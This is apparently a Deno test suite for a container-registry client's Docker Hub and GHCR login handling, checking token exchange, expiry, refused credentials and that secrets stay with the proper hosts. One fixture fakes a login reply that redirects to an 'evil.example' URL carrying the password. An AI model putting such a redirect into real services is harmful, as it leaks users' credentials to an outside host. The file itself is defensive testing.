import { assert, assertEquals } from "@std/assert";
import { RegistryError } from "../../mod.ts";
import type { TagDetails } from "../../core/adapter.ts";
import { IDENTITY, LOGIN, PASSWORD } from "../flow/houses.ts";
import { holds } from "../flow/invariants.ts";
import { type ApiRun, assertWhole, listDetails, REPOSITORY, tagsUpTo } from "./api_world.ts";
import { echo } from "./echo.ts";
import {
  assertOnlyAt,
  assertTokensApart,
  CONTENT,
  ghcr,
  HUB,
  hub,
  listAs,
  STORED,
  TAGS,
} from "./logins.ts";

function exchanges(run: ApiRun<TagDetails>): string[] {
  return run.requests.filter(({ origin, body }) => origin === HUB && body !== "")
    .map(({ url }) => url.slice(HUB.length));
}

Deno.test("docker-hub changes a password for a token once, and shows what is private", async () => {
  for (
    const [login, paths] of [
      ["both", ["/v2/auth/token"]],
      ["new", ["/v2/auth/token"]],
      ["old", ["/v2/auth/token", "/v2/users/login"]],
    ] as const
  ) {
    const run = await listAs(hub, LOGIN, { private: [REPOSITORY], api: { login } });
    assertWhole(run, TAGS);
    assertEquals(run.warnings, []);
    assertEquals(exchanges(run), [...paths]);
    for (const { digest } of run.items) assert(digest !== undefined);
    assertOnlyAt(run, PASSWORD, [HUB, "https://auth.docker.io"]);
    assertTokensApart(run);
    for (const { url } of run.requests) assert(!holds(url, PASSWORD), url);
  }
});

Deno.test("docker-hub lists what is public without a login, by V2's login where the API offers none", async () => {
  const run = await listAs(hub, LOGIN, { private: [REPOSITORY], api: { login: "none" } });
  assertWhole(run, TAGS);
  assertEquals(run.warnings.length, 1);
  assert(run.warnings[0]?.includes("it offers no way to log in"), run.warnings[0]);
  assertOnlyAt(run, PASSWORD, [HUB, "https://auth.docker.io"]);
});

Deno.test("docker-hub renews a token that is over, once for all pages under way", async () => {
  const content = { [REPOSITORY]: tagsUpTo(2000) };
  const over = new Set<string>();
  let answered = 0;
  const run = await listAs(hub, LOGIN, {
    content,
    private: [REPOSITORY],
    faults: (request) => {
      const { host, pathname } = new URL(request.url);
      if (host !== "hub.docker.com" || !pathname.endsWith("/tags")) return undefined;
      const token = request.headers.get("authorization") ?? "";
      if (++answered === 5) over.add(token);
      return over.has(token) ? Response.json({ detail: "expired" }, { status: 401 }) : undefined;
    },
  });
  assertWhole(run, content[REPOSITORY] ?? []);
  assertEquals(run.warnings, []);
  assertEquals(exchanges(run).length, 2);
});

Deno.test("docker-hub goes on without a stored login that is refused, and with a warning", async () => {
  const stale = { username: "alice", password: "st4le-c4n4ry-passw0rd", ...STORED };
  const run = await listAs(hub, stale);
  assertWhole(run, TAGS);
  for (const { digest } of run.items) assert(digest !== undefined);
  const [first = ""] = run.warnings.filter((warning) => warning.startsWith("hub.docker.com"));
  assertEquals(
    first,
    "hub.docker.com refuses the credentials from ~/.docker/config.json: going on without",
  );
  assertEquals(exchanges(run).length, 1);
  assertOnlyAt(run, stale.password, [HUB, "https://auth.docker.io"]);
});

Deno.test("a typed login that only the API refuses costs the details, and V2 judges it", async () => {
  const good = await listAs(hub, LOGIN, {
    private: [REPOSITORY],
    faults: (request) =>
      request.url.startsWith(`${HUB}/v2/auth/token`)
        ? Response.json({ detail: `not you, ${PASSWORD}` }, { status: 401 })
        : undefined,
  });
  assertWhole(good, TAGS);
  assertEquals(good.warnings.length, 1);
  assert(good.warnings[0]?.includes("hub.docker.com refuses the credentials"), good.warnings[0]);
  assertOnlyAt(good, PASSWORD, [HUB, "https://auth.docker.io"]);

  const bad = await listAs(hub, { ...LOGIN, password: "wr0ng-c4n4ry-passw0rd" });
  assert(bad.error instanceof RegistryError);
  assertEquals(bad.error.code, "unauthorized");
});

Deno.test("no odd answer of a login ends the listing, or shows what was sent", async () => {
  const bodies: readonly unknown[] = [
    {},
    [],
    { access_token: "" },
    { access_token: "with a space" },
    { access_token: "line\nbreak" },
    { access_token: "ключ" },
    { access_token: 5 },
    { access_token: { token: "x" } },
    { access_token: "x".repeat(200_000) },
    null,
    "text",
  ];
  for (const body of bodies) {
    for (const status of [200, 201, 302, 400, 401, 403, 404, 405, 409, 418, 429, 500]) {
      const run = await listAs(hub, LOGIN, {
        faults: (request) => {
          if (new URL(request.url).host !== "hub.docker.com" || request.method !== "POST") return;
          const headers = { location: `https://evil.example/?p=${encodeURIComponent(PASSWORD)}` };
          return Response.json(body, { status, headers });
        },
      });
      assertWhole(run, TAGS);
      assert(run.warnings.length <= 1, run.warnings.join("\n"));
      assertOnlyAt(run, PASSWORD, [HUB, "https://auth.docker.io"]);
      assertTokensApart(run);
      assert(run.requests.every(({ url }) => !url.includes("evil")));
    }
  }
});

Deno.test("what an API echoes of a login is not shown", async () => {
  for (const status of [400, 401, 403, 404, 422]) {
    const run = await listAs(hub, LOGIN, {
      faults: async (request) =>
        new URL(request.url).host === "hub.docker.com" ? await echo(request, status) : undefined,
    });
    assertWhole(run, TAGS);
    assertOnlyAt(run, PASSWORD, [HUB, "https://auth.docker.io"]);
  }
});

Deno.test("an API is given no token that is the registry's, whatever the source answers", async () => {
  for (const house of [hub, ghcr]) {
    for (
      const secret of [{ registryToken: "r3g1stry-T0k3n-C4n4ry" }, { identityToken: IDENTITY }]
    ) {
      for (const more of [{}, STORED]) {
        const credentials = { ...secret, ...more };
        const run = await listDetails(house, { content: CONTENT }, {
          // It does not look at what it is asked for.
          flow: { credentials: () => credentials },
        });
        const [value = ""] = Object.values(secret);
        const api = `https://${house.host}`;
        for (const { origin, url, headers, body } of run.requests) {
          if (origin !== api) continue;
          assert(!holds([url, body, ...Object.values(headers)].join("\n"), value), url);
        }
      }
    }
  }
});

Deno.test("an API is given no token that a source mints for the registry at each call", async () => {
  for (const house of [hub, ghcr]) {
    let minted = 0;
    const run = await listDetails(house, { content: CONTENT }, {
      flow: { credentials: () => ({ registryToken: `m1nt3d-T0k3n-C4n4ry-${++minted}` }) },
    });
    for (const { origin, url, headers, body } of run.requests) {
      if (origin !== `https://${house.host}`) continue;
      const sent = [url, body, ...Object.values(headers)].join("\n");
      assert(!holds(sent, "m1nt3d-T0k3n-C4n4ry"), url);
    }
  }
});
